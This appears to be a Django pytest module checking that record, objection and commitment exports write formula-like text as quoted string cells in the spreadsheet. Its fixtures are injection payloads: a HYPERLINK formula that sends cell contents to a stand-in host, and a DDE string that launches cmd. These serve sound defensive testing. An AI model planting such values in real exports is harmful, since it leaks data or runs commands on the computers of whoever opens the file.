"""Issue 16 item 2: text a spreadsheet would read as a formula is exported as text, never as a live formula.

Each export is read back with openpyxl without ``data_only``: a formula cell has ``data_type == "f"``; the
writer must store the text exactly as typed, as a string cell with Excel's quote prefix.
"""
import io

import openpyxl
import pytest
from django.urls import reverse

from records.models import CreditRecord
from tests.commitments.conftest import make_commitment
from tests.objections.conftest import file_objection, published_sanction
from tests.records.test_record_lifecycle import penalty

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def cells_holding(content: bytes, text: str) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def assert_written_as_text(content: bytes, text: str) -> None:
    found = cells_holding(content, text)
    assert found, f"{text!r} is not in the workbook"
    for cell in found:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate


def test_a_record_title_is_exported_as_text(client, cast):
    penalty(cast, title=HYPERLINK)
    client.force_login(cast.office)
    response = client.get(reverse("records:record_export"))
    assert response.status_code == 200
    assert_written_as_text(response.content, HYPERLINK)


def test_a_record_title_in_the_objections_export_is_text(client, cast):
    record = published_sanction(cast)
    file_objection(record, cast.user_x)
    CreditRecord.objects.filter(pk=record.pk).update(title=HYPERLINK)
    client.force_login(cast.office)
    response = client.get("/workspace/objections/export/")
    assert response.status_code == 200
    assert_written_as_text(response.content, HYPERLINK)


def test_a_commitment_counterparty_is_exported_as_text(client, cast):
    make_commitment(cast, counterparty_name=DDE, reason="+1+1", content="@SUM(A1:A2)")
    client.force_login(cast.office)
    response = client.get(reverse("commitments:export"))
    assert response.status_code == 200
    for text in (DDE, "+1+1", "@SUM(A1:A2)"):
        assert_written_as_text(response.content, text)
